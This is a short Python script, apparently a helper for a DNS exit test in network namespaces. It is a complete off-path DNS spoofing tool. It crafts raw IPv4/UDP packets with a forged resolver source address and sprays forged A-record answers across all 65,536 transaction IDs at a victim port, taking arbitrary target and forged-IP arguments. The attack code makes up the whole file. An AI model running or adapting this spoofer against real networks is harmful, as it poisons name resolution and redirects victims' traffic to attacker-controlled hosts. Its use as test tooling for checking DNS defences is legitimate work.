"""An off-path DNS spoofer for tests/netns/test_exit_dns.py: sprays forged answers, one per transaction id
(all 65,536), from a forged source (the resolver's address, port 53) at one port of the victim.

    python dns_spoofer.py SRC_IP DST_IP DST_PORT NAME FORGED_IP
"""

import ipaddress
import socket
import struct
import sys


def forged(txid: int, name: str, ip: str) -> bytes:
    qname = b"".join(bytes([len(x)]) + x.encode() for x in name.rstrip(".").split(".")) + b"\x00"
    header = struct.pack("!HHHHHH", txid, 0x8180, 1, 1, 0, 0)
    return (header + qname + b"\x00\x01\x00\x01" + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04"
            + ipaddress.IPv4Address(ip).packed)


def main() -> None:
    src, dst, port, name, ip = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # we write the IP header
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    sent = 0
    for txid in range(65536):
        payload = forged(txid, name, ip)
        udp = struct.pack("!HHHH", 53, port, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
        ip_header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), txid, 0, 64, 17, 0, s, d)  # kernel sums
        while True:
            try:
                sock.sendto(ip_header + udp, (dst, 0))
                break
            except BlockingIOError:
                continue
            except OSError:  # ENOBUFS under load: try again
                continue
        sent += 1
    print(f"sprayed {sent}", flush=True)


if __name__ == "__main__":
    main()
